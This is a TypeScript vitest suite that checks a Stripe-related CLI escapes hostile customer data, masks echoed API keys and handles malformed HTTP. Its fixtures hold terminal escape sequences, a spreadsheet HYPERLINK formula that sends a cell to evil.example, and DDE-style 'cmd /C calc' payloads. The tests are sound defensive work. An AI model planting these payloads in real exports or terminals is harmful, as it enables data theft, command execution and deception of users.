// The catalogue of hostile inputs: data typed by strangers (terminal escapes,
// spreadsheet formulas, secrets echoed back), flags a script repeats by mistake,
// and malformed HTTP thrown at the sandbox. Each case is what a user would see.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import Stripe from 'stripe';
import { MemoryConfigStore } from '../../src/config/store.js';
import { startSandbox, type RunningSandbox } from '../../src/sandbox/index.js';
import { runInproc, type InprocOptions } from '../helpers/run-inproc.js';
import { stripeFor } from '../helpers/stripe-client.js';

const KEY = 'sk_test_hostilecatalogue';

/** RFC 4180 as spreadsheets read it: quoted cells may hold commas, quotes ("") and line breaks. */
function parse(text: string, _opts: { columns: true }): Record<string, string>[] {
  const records: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') row.push(cell), (cell = '');
    else if (ch === '\n') row.push(cell), records.push(row), (row = []), (cell = '');
    else if (ch !== '\r' || text[i + 1] !== '\n') cell += ch;
  }
  if (cell || row.length) row.push(cell), records.push(row);
  const [head, ...rest] = records;
  return rest.map((r) => Object.fromEntries(head!.map((h, i) => [h, r[i] ?? ''])));
}
let sandbox: RunningSandbox;
let home: string;
let stripe: Stripe;

const fc = (args: string[], opts: InprocOptions = {}) =>
  runInproc(args, { ...opts, env: { FC_HOME: home, FC_API_BASE: sandbox.url, STRIPE_API_KEY: KEY, ...opts.env } });

/** Anything a terminal would act on: ESC, BEL, other C0 controls (but not the newlines between lines), C1, bidi overrides. */
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

beforeAll(async () => {
  home = mkdtempSync(join(tmpdir(), 'fc-hostile-'));
  sandbox = await startSandbox({ dbPath: ':memory:', settings: { refreshDelayMs: 0, settleDelayMs: 0, refreshCooldownMs: 0 } });
  stripe = stripeFor(sandbox, KEY);
});

afterAll(async () => {
  await sandbox.close();
  rmSync(home, { recursive: true, force: true });
});

// ---- terminal escapes in data -------------------------------------------------------------------

const ESCAPES: [label: string, value: string, shown: string][] = [
  ['clear screen, title, colour and a fake row', '\u001b[2J\u001b]0;pwned\u0007\u001b[31mRED\nFAKE: Payment succeeded', '\\e[2J\\e]0;pwned\\x07\\e[31mRED\\nFAKE: Payment succeeded'],
  ['an OSC 8 hyperlink', '\u001b]8;;http://evil.example\u001b\\Refund\u001b]8;;\u001b\\', '\\e]8;;http://evil.example\\e\\Refund\\e]8;;\\e\\'],
  ['a carriage return that overwrites the line', 'Jenny\rPAID IN FULL', 'Jenny\\rPAID IN FULL'],
  ['terminal reset, ESC c', 'x\u001bcy', 'x\\ecy'],
  ['an 8-bit CSI, a C1 control', 'a\u009b2Jb', 'a\\x9b2Jb'],
  ['a right-to-left override', 'invoice\u202egpj.exe', 'invoice\\u202egpj.exe'],
  ['backspaces that hide text', 'refund\b\b\b\b\b\bcharge', 'refund\\b\\b\\b\\b\\b\\bcharge'],
  ['a NUL and a tab', 'a\u0000b\tc', 'a\\0b\\tc'],
];

describe('terminal escapes in customer data are shown, never run', () => {
  it.each(ESCAPES)('%s: customers list, customers get and doctor show it escaped; --json is exact', async (_label, value, shown) => {
    const cus = await stripe.customers.create({ email: 'hostile@example.com', name: value, description: value });
    for (const args of [['customers', 'list', '--email', 'hostile@example.com', '--limit', '100'], ['customers', 'get', cus.id], ['doctor', cus.id]]) {
      const r = await fc(args);
      expect(r.stdout + r.stderr, args.join(' ')).not.toMatch(RAW_CONTROL);
      expect(r.stdout, args.join(' ')).toContain(shown);
    }
    const json = await fc(['customers', 'get', cus.id, '--json']);
    expect((JSON.parse(json.stdout) as Stripe.Customer).name).toBe(value);
  });
});

describe('terminal escapes in payments and metadata', () => {
  it('payments list and get show a hostile description and metadata escaped', async () => {
    const pi = await stripe.paymentIntents.create({
      amount: 500,
      currency: 'usd',
      description: '\u001b]0;owned\u0007desc',
      metadata: { '\u001bcX': 'v' },
    });
    for (const args of [['payments', 'list', '--limit', '100'], ['payments', 'get', pi.id]]) {
      const r = await fc(args);
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout + r.stderr).not.toMatch(RAW_CONTROL);
      expect(r.stdout).toContain('\\e]0;owned\\x07desc');
    }
  });

  it('events get shows the event object as JSON would spell it, ESC as u001b, not a doubled e', async () => {
    const cus = await stripe.customers.create({ name: 'evt\u001b[2Jname\u009b31m\u202eR' });
    const event = (await stripe.events.list({ type: 'customer.created', limit: 100 })).data.find((e) => (e.data.object as { id: string }).id === cus.id)!;
    const r = await fc(['events', 'get', event.id]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(RAW_CONTROL);
    // JSON's own escape for ESC, then C1 and bidi controls shown escaped as everywhere else.
    expect(r.stdout).toContain('"name": "evt\\u001b[2Jname\\x9b31m\\u202eR"');
  });

  it.each([
    ['an escape in a key', '\u001bcX=v'],
    ['a newline in a value', 'note=line1\nFAKE'],
    ['a bell in a value', 'note=\u0007'],
    ['a bidi override in a key', 'a\u202eb=v'],
    ['a C1 control in a value', 'note=\u009b2J'],
  ])('customers create --metadata with %s is refused with exit 2, nothing sent', async (_label, pair) => {
    const before = sandbox.store.requestLog().length;
    const r = await fc(['customers', 'create', '--email', 'meta@example.com', '--metadata', pair]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/--metadata.*control characters/);
    expect(r.stderr).not.toMatch(RAW_CONTROL);
    expect(sandbox.store.requestLog().length).toBe(before);
  });
});

// ---- server messages and secrets ---------------------------------------------------------------

describe('what a server says is shown safely', () => {
  let server: http.Server;
  let base: string;
  beforeAll(async () => {
    // A server that echoes the Authorization header (and an escape sequence) in its error message.
    server = http.createServer((req, res) => {
      res.statusCode = 400;
      res.setHeader('content-type', 'application/json');
      res.end(JSON.stringify({ error: { type: 'invalid_request_error', message: `Bad request from ${req.headers.authorization}\u001b]0;pwned\u0007 whsec_abcdefghijklmnop1234` } }));
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(() => new Promise<void>((r) => server.close(() => r())));

  it('an error message that echoes the key: the key is masked and the escape shown', async () => {
    const r = await fc(['customers', 'list'], { env: { FC_API_BASE: base } });
    expect(r.code).toBe(1);
    expect(r.stderr).not.toContain(KEY);
    expect(r.stderr).toContain('sk_test_…ogue');
    expect(r.stderr).not.toContain('whsec_abcdefghijklmnop1234');
    expect(r.stderr).toContain('\\e]0;pwned\\x07');
    expect(r.stderr).not.toMatch(RAW_CONTROL);
  });

  it('fc api prints the error object for scripts, with the echoed key masked there too', async () => {
    const r = await fc(['api', 'get', '/v1/customers'], { env: { FC_API_BASE: base } });
    expect(r.code).toBe(1);
    const body = JSON.parse(r.stdout) as { error: { message: string } };
    expect(body.error.message).toContain('sk_test_…ogue');
    expect(r.stdout + r.stderr).not.toContain(KEY);
    expect(r.stdout).not.toContain('whsec_abcdefghijklmnop1234');
  });

  it('customers list --debug never prints the key either', async () => {
    const r = await fc(['customers', 'list', '--debug'], { env: { FC_API_BASE: base } });
    // The debug lines and the echoed message are there, so the key's absence means something.
    expect(r.stderr).toMatch(/→ GET \/v1\/customers/);
    expect(r.stderr).toMatch(/← 400 GET \/v1\/customers/);
    expect(r.stderr).toContain('sk_test_…ogue');
    expect(r.stderr).not.toContain(KEY);
  });
});

describe('a server that never answers', () => {
  let server: http.Server;
  let base: string;
  beforeAll(async () => {
    server = http.createServer(() => {});
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(() => {
    server.closeAllConnections();
    return new Promise<void>((r) => server.close(() => r()));
  });

  it('a global --timeout bounds the whole command: exit 4 naming the server', async () => {
    const r = await fc(['customers', 'list', '--timeout', '1'], { env: { FC_API_BASE: base } });
    expect(r.code).toBe(4);
    expect(r.stderr).toContain(`Gave up after 1s (--timeout 1): ${new URL(base).host} had not finished answering.`);
  });
});

// ---- spreadsheet formulas ---------------------------------------------------------------------

// Labelled: the formulas themselves, in a test's name, would not select it with vitest -t (a regex).
const FORMULAS: [label: string, formula: string][] = [
  ['a HYPERLINK that sends a cell away', '=HYPERLINK("http://evil.example/steal?d="&A2,"Refund")'],
  ['an @SUM that runs a command', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ['a plus sign that runs a command', '+1+cmd|" /C calc"!A0'],
  ['a minus sign that runs a command', '-2+3+cmd|" /C calc"!A0'],
  ['a tab before a formula', '\t=1+1'],
  ['a carriage return before a formula', '\r=1+1'],
];

describe('CSV cells that a spreadsheet would run are neutralised', () => {
  it.each(FORMULAS)('payments list --format csv: a description with %s opens as text starting with a quote', async (_label, formula) => {
    const pi = await stripe.paymentIntents.create({ amount: 78581, currency: 'usd', description: formula });
    const r = await fc(['payments', 'list', '--limit', '100', '--format', 'csv']);
    expect(r.code, r.stderr).toBe(0);
    const rows = parse(r.stdout, { columns: true }) as Record<string, string>[];
    const row = rows.find((x) => x.id === pi.id)!;
    expect(row.description).toBe(`'${formula}`);
    expect(row.amount).toBe('78581');
  });

  it('customers list --format csv neutralises a formula in the phone number, keeps the email', async () => {
    await stripe.customers.create({ email: 'csv@example.com', phone: "@SUM(1+1)*cmd|' /C calc'!A0" });
    const r = await fc(['customers', 'list', '--email', 'csv@example.com', '--format', 'csv']);
    const rows = parse(r.stdout, { columns: true }) as Record<string, string>[];
    expect(rows[0]!.phone).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(rows[0]!.email).toBe('csv@example.com');
  });
});

// ---- flags given twice -----------------------------------------------------------------------

describe('a single-valued flag given twice is a usage error, nothing sent', () => {
  it.each([
    ['pay --amount', ['pay', '--account', 'fca_123', '--customer', 'cus_123', '--amount', '100', '--mandate-ip', '71.183.194.54', '--amount', '250000', '--yes'], '--amount'],
    ['customers list --limit', ['customers', 'list', '--limit', '1', '--limit=2'], '--limit'],
    ['customers create --email', ['customers', 'create', '--email', 'a@example.com', '--email', 'b@example.com'], '--email'],
    ['global --api-base', ['--api-base', 'http://127.0.0.1:1', 'customers', 'list', '--api-base', 'http://127.0.0.1:2'], '--api-base'],
    ['global --format', ['customers', 'list', '--format', 'csv', '--format', 'json'], '--format'],
    ['sessions create --customer', ['sessions', 'create', '--customer', 'cus_1', '--customer', 'cus_2', '--permissions', 'balances'], '--customer'],
    ['pay --account', ['pay', '--account', 'fca_1', '--account', 'fca_2', '--customer', 'cus_1', '--amount', '100', '--mandate-ip', '1.2.3.4', '--yes'], '--account'],
    ['global --profile', ['--profile', 'a', 'customers', 'list', '--profile', 'b'], '--profile'],
  ])('%s twice', async (_label, args, flag) => {
    const before = sandbox.store.requestLog().length;
    const r = await fc(args);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`${flag} was given more than once`);
    expect(sandbox.store.requestLog().length).toBe(before);
  });

  it('a list flag may repeat: --metadata a=1 --metadata b=2', async () => {
    const r = await fc(['customers', 'create', '--email', 'list@example.com', '--metadata', 'a=1', '--metadata', 'b=2', '--json']);
    expect(r.code, r.stderr).toBe(0);
    expect((JSON.parse(r.stdout) as Stripe.Customer).metadata).toEqual({ a: '1', b: '2' });
  });
});

// ---- silent fallbacks ------------------------------------------------------------------------

describe('no silent fallback to the sandbox', () => {
  it('an unknown --profile is exit 2 naming the saved profiles', async () => {
    const config = new MemoryConfigStore({ profiles: { prod: { apiKey: 'sk_test_prodprodprod' } } });
    const r = await runInproc(['--profile', 'prdo', 'customers', 'list'], { config, env: { FC_HOME: home } });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("Profile 'prdo' (from --profile) does not exist; saved profiles: prod.");
  });

  it('an unknown FC_PROFILE is exit 2 too', async () => {
    const r = await runInproc(['customers', 'list'], { env: { FC_HOME: home, FC_PROFILE: 'nope' } });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("'nope' (from FC_PROFILE) does not exist");
  });

  it.each([
    ['not JSON', '{"profiles": {"a": 1}x'],
    ['a JSON array', '[]'],
    ['profiles that are not objects', '{"profiles": {"a": 1}}'],
  ])('a corrupt config.json, %s, is one line naming the file, exit 2', async (_label, text) => {
    const dir = mkdtempSync(join(tmpdir(), 'fc-badconfig-'));
    writeFileSync(join(dir, 'config.json'), text);
    const { main } = await import('../../src/cli.js');
    const { createIO } = await import('../../src/io/io.js');
    const { PassThrough } = await import('node:stream');
    let err = '';
    const stderr = Object.assign(new PassThrough(), { isTTY: false });
    stderr.on('data', (d: Buffer) => (err += d.toString()));
    const env = { FC_HOME: dir, NO_COLOR: '1', FC_NO_KEYRING: '1' };
    const io = createIO({ stdout: new PassThrough(), stderr, stdin: new PassThrough(), env });
    const code = await main(['customers', 'list'], { io, env });
    rmSync(dir, { recursive: true, force: true });
    expect(code).toBe(2);
    expect(err.trim().split('\n')).toHaveLength(1);
    expect(err).toContain(`${join(dir, 'config.json')} is not a valid fc config`);
  });
});

// ---- malformed HTTP to the sandbox ---------------------------------------------------------------

interface Answer {
  status: number;
  body: { error?: { type: string; message: string } };
}

async function send(path: string, init: { method?: string; headers?: Record<string, string>; body?: string | Uint8Array<ArrayBuffer> } = {}): Promise<Answer> {
  const res = await fetch(`${sandbox.url}${path}`, {
    method: init.method ?? (init.body !== undefined ? 'POST' : 'GET'),
    headers: { authorization: `Bearer ${KEY}`, ...init.headers },
    body: init.body,
  });
  return { status: res.status, body: (await res.json()) as Answer['body'] };
}

const basic = (user: string) => `Basic ${Buffer.from(`${user}:`).toString('base64')}`;

describe('the sandbox answers bad input with Stripe error objects, never 500', () => {
  it.each<[string, () => Promise<Answer>, number]>([
    ['a publishable key of 11 characters, pk_test_abc', () => send('/v1/customers', { headers: { authorization: basic('pk_test_abc') } }), 401],
    ['a 9-character key without a prefix', () => send('/v1/customers', { headers: { authorization: basic('abcdefghi') } }), 401],
    ['a key that is only a prefix, sk_test_', () => send('/v1/customers', { headers: { authorization: basic('sk_test_') } }), 401],
    ['an empty Bearer', () => send('/v1/customers', { headers: { authorization: 'Bearer ' } }), 401],
    ['Basic auth that is not base64', () => send('/v1/customers', { headers: { authorization: 'Basic %%%' } }), 401],
    ['a key with a space in it', () => send('/v1/customers', { headers: { authorization: basic('sk_test_ab cd') } }), 401],
    ['a live key', () => send('/v1/customers', { headers: { authorization: 'Bearer sk_live_abcdefghijkl' } }), 401],
    ['malformed percent-encoding in the path', () => send('/v1/customers/cus_%E0%A4%A'), 400],
    ['a lone % in the path', () => send('/v1/customers/%'), 400],
    ['malformed percent-encoding in a form body, which kept as text would corrupt the name', () => send('/v1/customers', { body: 'name=%E0%A4%A' }), 400],
    ['a percent-encoded byte that is not UTF-8 in a form body', () => send('/v1/customers', { body: 'description=%9B31m' }), 400],
    ['malformed percent-encoding in the query string', () => send('/v1/customers?email=%E0%A4%A'), 400],
    ['a v2 body that is null', () => send('/v2/core/accounts', { body: 'null', headers: { 'content-type': 'application/json' } }), 400],
    ['a v2 body that is an array', () => send('/v2/core/accounts', { body: '[1,2]', headers: { 'content-type': 'application/json' } }), 400],
    ['a v2 body that is a string', () => send('/v2/core/accounts', { body: '"x"', headers: { 'content-type': 'application/json' } }), 400],
    ['a v2 field of the wrong type, display_name: 5', () => send('/v2/core/accounts', { body: '{"display_name":5}', headers: { 'content-type': 'application/json' } }), 400],
    ['v2 metadata that is not an object', () => send('/v2/core/accounts', { body: '{"metadata":"x"}', headers: { 'content-type': 'application/json' } }), 400],
    ['a v2 metadata value that is not a string', () => send('/v2/core/accounts', { body: '{"metadata":{"a":{"b":1}}}', headers: { 'content-type': 'application/json' } }), 400],
    ['a v2 body that is not JSON', () => send('/v2/core/accounts', { body: '{"a":', headers: { 'content-type': 'application/json' } }), 400],
    ['a 2 MB body', () => send('/v1/customers', { body: new Uint8Array(2 * 1024 * 1024).fill(97) }), 413],
    ['an Idempotency-Key of 300 characters', () => send('/v1/customers', { body: 'email=a@example.com', headers: { 'idempotency-key': 'k'.repeat(300) } }), 400],
    ['an unknown route', () => send('/v1/nope'), 404],
    ['an unknown parameter', () => send('/v1/customers', { body: 'emial=a@example.com' }), 400],
    ['deeply nested brackets', () => send('/v1/customers', { body: `metadata${'[a]'.repeat(50)}=1` }), 400],
    ['metadata given as a nested hash', () => send('/v1/customers', { body: 'metadata[a][b]=1' }), 400],
    ['a metadata value over 500 characters', () => send('/v1/customers', { body: `metadata[a]=${'x'.repeat(501)}` }), 400],
  ])('%s gets a Stripe error object', async (_label, request, status) => {
    const r = await request();
    expect(r.status).toBe(status);
    expect(r.body.error?.type).toMatch(/^(invalid_request_error|authentication_error)$/);
    expect(r.body.error?.message).not.toMatch(/internal error|Invalid count value|URI malformed/);
  });
});
